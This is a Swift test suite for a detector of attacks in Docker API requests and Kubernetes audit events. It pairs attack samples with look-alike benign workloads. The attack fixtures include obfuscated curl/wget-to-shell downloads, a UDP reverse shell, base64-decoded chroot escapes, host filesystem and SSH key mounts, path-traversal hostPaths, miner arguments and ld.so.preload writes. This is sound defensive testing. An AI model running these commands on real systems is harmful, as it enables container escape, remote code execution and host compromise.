import Deployments
import Dialects
import Judge
import Sigma
import Testing

/// Attacks and the ordinary work that looks like them, as Docker requests and Kubernetes audit events: what tells them
/// apart is behaviour, so these need no recorded corpus and no known names.
@Suite struct LookAlikeTests {
    static let bench = try? Judge.Bench(.builtIn)

    static func level(_ deployments: [ContainerDeployment]) throws -> Level? {
        level(deployments, Judge(try #require(bench)))
    }

    static func level(_ deployments: [ContainerDeployment], _ judge: Judge) -> Level? {
        var highest: Level?
        for deployment in deployments {
            judge.judge(DeploymentEvent(deployment)) {
                highest = max(highest ?? .informational, $0.rule.level ?? .informational)
            }
        }
        return highest
    }

    /// Requests over the local socket: no address, no user.
    static func docker(_ requests: (target: String, body: String)...) -> [ContainerDeployment] {
        readings(
            of: HTTPRequestsDialect(),
            requests.map { #"{"app":"docker-engine","method":"POST","target":"\#($0.target)","body":\#($0.body)}"# }
        ).deployments
    }

    static func pod(_ spec: String, user: String = "dev", namespace: String = "shop") -> [ContainerDeployment] {
        readings(
            of: KubernetesAuditDialect(),
            [
                #"""
                {"kind":"Event","level":"Request","auditID":"a","stage":"ResponseComplete","requestURI":"/","verb":"create",\#
                "user":{"username":"\#(user)","groups":["system:authenticated"]},"sourceIPs":["10.1.2.3"],\#
                "userAgent":"kubectl/v1.34","objectRef":{"resource":"pods","namespace":"\#(namespace)","name":"p",\#
                "apiVersion":"v1"},"responseStatus":{"code":201},"requestReceivedTimestamp":"2026-11-24T00:00:00Z",\#
                "requestObject":{"kind":"Pod","apiVersion":"v1","metadata":{"name":"p"},"spec":\#(spec)}}
                """#
            ]
        ).deployments
    }

    @Test(arguments: [
        #"{"Image":"alpine","Cmd":["chroot","/hs","sh","-c","id"],"HostConfig":{"Binds":["/:/hs"]}}"#,
        #"{"Image":"alpine","Cmd":["sh","-c","c''url -sSL http://192.0.2.1/i|ba\\sh"]}"#,
        #"{"Image":"alpine","Cmd":["sh","-c","wget${IFS}-qO-${IFS}http://192.0.2.1/i|sh"]}"#,
        #"{"Image":"ubuntu","Cmd":["bash","-c","{curl,-s,http://192.0.2.1/i}|{bash,-i}"]}"#,
        #"{"Image":"ubuntu","Cmd":["bash","-c","bash <(curl -s https://192.0.2.1/i)"]}"#,
        #"{"Image":"ubuntu","Cmd":["sh","-c","echo Y2hyb290IC9ob3N0IHNo|base64 -d|sh"]}"#,
        #"{"Image":"python:3","Cmd":["python3","-c","import urllib.request as u;exec(u.urlopen('http://192.0.2.1').read())"]}"#,
        #"{"Image":"ubuntu","Cmd":["sh","-c","sh -i >& /dev/udp/192.0.2.1/53 0>&1"]}"#,
        #"{"Image":"nginx:1","Healthcheck":{"Test":["CMD-SHELL","curl http://192.0.2.1/a|sh"]}}"#,
        #"{"Image":"busybox","Cmd":["sh","-c","cp /k /e/ssh/sshd_config"],"HostConfig":{"Binds":["/etc:/e"]}}"#,
        #"{"Image":"busybox","HostConfig":{"Mounts":[{"Type":"bind","Source":"/var/../root//.ssh","Target":"/k"}]}}"#,
        #"{"Image":"busybox","HostConfig":{"Binds":["/var/lib/kubelet/../../../etc/kubernetes/manifests:/m"]}}"#,
        #"{"Image":"alpine","HostConfig":{"Devices":[{"PathOnHost":"/dev/nvme0n1p1","PathInContainer":"/d"}]}}"#,
        #"{"Image":"alpine","HostConfig":{"DeviceCgroupRules":["b 8:* rwm"]}}"#,
        #"{"Image":"alpine","Cmd":["chroot","/x","sh"],"HostConfig":{"VolumesFrom":["db"]}}"#,
        #"{"Image":"someone/tomcat","HostConfig":{"RestartPolicy":{"Name":"always"}}}"#,
        #"{"Image":"hashicrop/vault:1.15"}"#, #"{"Image":"198.51.100.7:5000/a/b"}"#,
        #"{"Image":"a/b","Cmd":["-o","rx.example.org:443","-u","x","--tls","--donate-level","1"]}"#,
        #"{"Image":"a","HostConfig":{"Privileged":false},"hostConfig":{"Privileged":true}}"#,
        #"{"Image":"alpine","Cmd":["sh","-c","echo /l.so > /etc/ld.so.preload"]}"#,
        #"{"Image":"alpine","Cmd":["sh","-c","echo x|tee /proc/sys/kernel/core_pattern"]}"#,
        #"{"Image":"alpine","HostConfig":{"Privileged":true,"PidMode":"host"}}"#,
    ])
    func `an attack by a container is told at level high`(body: String) throws {
        let level = try #require(try Self.level(Self.docker(("/v1.47/containers/create", body))))
        #expect(level >= .high)
    }

    @Test(arguments: [
        #"{"Image":"debian:12","Cmd":["sh","-c","apt-get update && apt-get install -y curl && curl -f https://example.org"]}"#,
        #"{"Image":"node:22","Cmd":["sh","-c","npm ci && npm test"],"HostConfig":{"Binds":["/home/ci/work:/w"]}}"#,
        #"{"Image":"postgres:17","Healthcheck":{"Test":["CMD-SHELL","pg_isready -U app"]},"HostConfig":{"Binds":["pg:/d"]}}"#,
        #"{"Image":"bitnami/redis:7","HostConfig":{"PortBindings":{"6379/tcp":[{"HostPort":"6379"}]}}}"#,
        #"{"Image":"registry.example.org/base/nginx:1"}"#, #"{"Image":"10.0.0.5:5000/team/app:3"}"#,
        #"{"Image":"alpine","Cmd":["sh","-c","echo '0 3 * * * /b' > /etc/crontabs/root && exec crond -f"]}"#,
        #"{"Image":"app:1","Cmd":["bash","-c","until (echo >/dev/tcp/db/5432) 2>/dev/null; do sleep 1; done; ./app"]}"#,
        #"{"Image":"app:1","Cmd":["sh","-c","exec 3<>/dev/tcp/127.0.0.1/9000; echo -e 'GET /health' >&3; cat <&3 | grep UP"]}"#,
        #"{"Image":"app:1","Cmd":["sh","-c","echo $CFG | base64 -d > /etc/app.json && exec /app"]}"#,
        #"{"Image":"app:1","Cmd":["sh","-c","curl -s http://api/v1 | jq -r .token > /tmp/t && cat /tmp/t"]}"#,
        #"{"Image":"app:1","Cmd":["sh","-c","wget -q https://example.org/d.csv -O /tmp/d.csv && python /app/load.py /tmp/d.csv"]}"#,
        #"{"Image":"prom/node-exporter:v1","HostConfig":{"Binds":["/proc:/host/proc:ro","/sys:/host/sys:ro"]}}"#,
        #"{"Image":"analytics/process-miner:4","Cmd":["python","-m","miner","--pool","10","--algo","alpha"]}"#,
        #"{"Image":"rust:1","Cmd":["bash","-c","curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh -s -- -y && . $HOME/.cargo/env && cargo build"]}"#,
        #"{"Image":"alpine","Cmd":["sh","-c","apk add curl bash && curl -fsSL https://raw.githubusercontent.com/helm/helm/main/scripts/get-helm-3 | bash && helm version"]}"#,
        #"{"Image":"alpine","Cmd":["sh","-c","curl -fsSL -o get_helm.sh https://raw.githubusercontent.com/helm/helm/main/scripts/get-helm-3 && chmod 700 get_helm.sh && ./get_helm.sh"]}"#,
        #"{"Image":"alpine","Cmd":["sh","-c","curl -LO https://dl.k8s.io/release/v1.30.0/bin/linux/amd64/kubectl && chmod +x kubectl && ./kubectl version --client"]}"#,
        #"{"Image":"app:1","Cmd":["mount-helper","--crontab","/etc/x"]}"#,
        #"{"Image":"tailscale/tailscale:v1","HostConfig":{"CapAdd":["NET_ADMIN"],"Binds":["/dev/net/tun:/dev/net/tun"]}}"#,
    ])
    func `ordinary work in a container is not told at level medium`(body: String) throws {
        #expect(try Self.level(Self.docker(("/v1.47/containers/create", body))) ?? .low < .medium)
    }

    @Test func `what a volume hides shows at its creation and at its use`() throws {
        let volume = #"{"Name":"v","Driver":"local","DriverOpts":{"type":"none","o":"bind","device":"/"}}"#
        #expect(try Self.level(Self.docker(("/volumes/create", volume))) == .high)
        let create = #"{"Image":"app:1","HostConfig":{"Binds":["v:/data"]}}"#
        let both = Self.docker(("/volumes/create", volume), ("/containers/create", create))
        #expect(try #require(try Self.level(Array(both.suffix(1)))) >= .high)
    }

    @Test(
        arguments: [
            (#"{"RemoteAddrs":["203.0.113.9:2377"],"JoinToken":"x"}"#, Level.critical),
            (#"{"RemoteAddrs":["10.0.0.2:2377"],"JoinToken":"x"}"#, nil),
            (#"{"RemoteAddrs":["[2001:db8::7]:2377"],"JoinToken":"x"}"#, .critical),
        ] as [(String, Level?)]
    )
    func `a swarm is judged by where its manager stands`(body: String, level: Level?) throws {
        #expect(try Self.level(Self.docker(("/swarm/join", body))) == level)
    }

    @Test(arguments: [
        (#"{"containers":[{"name":"c","image":"ubuntu","command":["sleep","infinity"]}],"hostNetwork":true}"#, true),
        (#"{"containers":[{"name":"c","image":"app:1","command":["/app"]}],"hostNetwork":true}"#, false),
        (
            #"{"containers":[{"name":"c","image":"app:1"},{"name":"d","image":"a:1","lifecycle":{"postStart":{"exec":{"command":["sh","-c","curl http://x/a|sh"]}}}}]}"#,
            true
        ),
        (
            #"{"containers":[{"name":"c","image":"app:1","livenessProbe":{"exec":{"command":["sh","-c","curl -f http://127.0.0.1/h"]}}}]}"#,
            false
        ),
        (#"{"containers":[{"name":"c","image":"app:1","workingDir":"/proc/self/fd/7"}]}"#, true),
        (
            #"{"containers":[{"name":"c","image":"app:1","volumeMounts":[{"name":"v","mountPath":"/d"}]}],"volumes":[{"name":"v","hostPath":{"path":"/var/log/../../"}}]}"#,
            true
        ),
        (
            #"{"containers":[{"name":"c","image":"app:1","volumeMounts":[{"name":"v","mountPath":"/d"}]}],"volumes":[{"name":"v","hostPath":{"path":"/srv/data"}}]}"#,
            false
        ),
    ])
    func `a pod is judged by what it does`(spec: String, isTold: Bool) throws {
        #expect((try Self.level(Self.pod(spec)) ?? .low >= .high) == isTold)
    }

    @Test(arguments: [
        ("system:anonymous", "shop", true), ("system:serviceaccount:web:default", "web", true),
        ("system:serviceaccount:web:frontend", "kube-system", true), ("system:node:n1", "shop", true),
        ("system:serviceaccount:argocd:argocd-application-controller", "kube-system", false),
        ("system:serviceaccount:web:deployer", "web", false), ("alice", "shop", false),
    ])
    func `a plain pod is judged by who asks for it and where`(user: String, namespace: String, isTold: Bool) throws {
        let pod = #"{"containers":[{"name":"c","image":"registry.example.org/app:1"}]}"#
        #expect((try Self.level(Self.pod(pod, user: user, namespace: namespace)) ?? .low >= .high) == isTold)
    }

    @Test func `a trusted sidecar excuses no container beside it`() throws {
        let agent = #"{"name":"a","image":"ghcr.io/kubereboot/kured:1","securityContext":{"privileged":true}}"#
        let other = #"{"name":"o","image":"registry.example.org/x:1","securityContext":{"privileged":true}}"#
        func told(_ containers: String, user: String) throws -> Bool {
            let spec = #"{"hostPID":true,"containers":[\#(containers)]}"#
            return try Self.level(Self.pod(spec, user: user, namespace: "kube-system")) ?? .low >= .high
        }
        #expect(try !told(agent, user: "kubernetes-admin"))
        #expect(try told(agent, user: "mallory"))
        #expect(try told("\(agent),\(other)", user: "kubernetes-admin"))
    }
}
